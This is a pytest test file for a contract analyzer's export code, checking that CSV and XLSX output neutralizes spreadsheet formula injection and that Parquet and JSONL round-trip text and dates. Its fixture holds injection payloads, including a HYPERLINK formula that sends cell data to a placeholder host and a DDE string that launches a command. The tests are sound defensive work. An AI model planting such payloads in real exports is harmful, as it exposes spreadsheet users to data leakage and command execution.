"""Exports: every format round-trips, and CSV/XLSX cells can never run as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import batchwork
import openpyxl
import pandas as pd
import pytest

from contract_analyzer.batch import analyze_folder_tables
from contract_analyzer.batch.exports import neutralize, output_format, table_path, write_tables
from contract_analyzer.errors import BatchError

HOSTILE_TEXTS = {
    "formula.txt": '=HYPERLINK("http://example.invalid/?"&A1,"click")\nrest',
    "plus.txt": "+1+cmd|' /C calc'!A0\n",
    "minus.txt": "-2+3\n",
    "at.txt": "@SUM(1,2)\n",
    "tab.txt": "\t=1+1\n",
    "plain.txt": "This Agreement is made on 1 March 2024.\n",
}


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory):
    folder = tmp_path_factory.mktemp("hostile")
    for name, text in HOSTILE_TEXTS.items():
        (folder / name).write_text(text)
    # a file name is document-controlled text too
    (folder / "=cmd.txt").write_text("=2+5\n")
    return analyze_folder_tables(
        folder, work=batchwork.hostile, cache=False, progress=False, jobs=1
    )


def test_neutralize() -> None:
    for value in ["=1", "+1", "-1", "@x", "\tx", "\rx"]:
        assert neutralize(value) == "'" + value
    for value in ["1", "a=b", "", 5, None, -3.5]:
        assert neutralize(value) == value


def test_csv_cells_are_inert(batch, tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    write_tables(batch.contracts, out, batch.tables())
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    first_lines = {r["file"]: r["first_line"] for r in rows}
    assert first_lines["formula.txt"].startswith("'=HYPERLINK(")
    assert first_lines["plus.txt"] == "'+1+cmd|' /C calc'!A0"
    assert first_lines["minus.txt"] == "'-2+3"
    assert first_lines["at.txt"] == "'@SUM(1,2)"
    assert first_lines["'=cmd.txt"] == "'=2+5"
    assert first_lines["plain.txt"].startswith("This Agreement")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    findings = table_path(out, "findings")
    assert findings.name == "results.findings.csv"
    messages = pd.read_csv(findings)["message"].tolist()
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"click")' in messages
    for name in ("clauses", "obligations", "key_dates"):
        assert table_path(out, name).exists()


def test_xlsx_cells_are_text_not_formulas(batch, tmp_path: Path) -> None:
    out = tmp_path / "results.xlsx"
    write_tables(batch.contracts, out, batch.tables())
    sheet = openpyxl.load_workbook(out).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert all(cell.data_type != "f" for cell in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'=2+5" in texts and "'=cmd.txt" in texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)


def test_parquet_and_jsonl_keep_text_and_dates(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "file": ["a.pdf", "b.pdf"],
            "expiry": [dt.date(2027, 1, 31), None],
            "text": ["=raw", "\x01ctrl"],
            "mixed": [1, "two"],
            "spans": [[1, 2], None],
        }
    )
    pq = write_tables(frame, tmp_path / "r.parquet")[0]
    back = pd.read_parquet(pq)
    assert back["text"].tolist() == ["=raw", "\x01ctrl"]
    assert back["mixed"].tolist() == ["1", "two"]
    lines = tmp_path / "r.jsonl"
    write_tables(frame, lines)
    records = [json.loads(line) for line in lines.read_text().splitlines()]
    assert records[0]["expiry"] == "2027-01-31" and records[1]["expiry"] is None
    assert records[0]["spans"] == [1, 2]
    xlsx = write_tables(frame, tmp_path / "r.xlsx")[0]  # control characters are dropped
    values = [c.value for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row]
    assert "ctrl" in values and "'=raw" in values


def test_output_format_and_table_names() -> None:
    assert output_format("x/results.CSV") == "csv"
    assert output_format("r.pq") == "parquet"
    assert table_path("out/results.xlsx", "clauses") == Path("out/results.clauses.xlsx")
    with pytest.raises(BatchError, match="unsupported output format"):
        output_format("results.html")
